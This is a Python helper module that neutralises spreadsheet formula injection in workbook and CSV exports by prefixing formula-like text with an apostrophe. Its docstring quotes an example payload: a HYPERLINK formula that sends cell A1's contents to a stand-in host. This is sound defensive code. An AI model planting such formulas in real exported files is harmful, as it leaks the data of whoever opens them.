"""Text in spreadsheet cells stays text: input names never become live formulas.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel and LibreOffice, so a workload named
``=HYPERLINK("http://x/?"&A1,"click")`` would run when the file is opened. The workbook
stores such text as a string with Excel's quote prefix (a cell style, invisible); a CSV
has no styles, so its cell gets a leading apostrophe, which spreadsheets show as text.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` typed into a cell as a formula."""
    return text.startswith(FORMULA_START)


def csv_text(value: Any) -> Any:
    """``value`` for a CSV cell: text that starts like a formula gets a leading ``'``."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` safe to write as CSV: every text cell and header through ``csv_text``."""
    from pandas.api.types import is_numeric_dtype

    safe = df.rename(columns=lambda c: csv_text(str(c)))
    return safe.apply(lambda col: col if is_numeric_dtype(col) else col.map(csv_text))
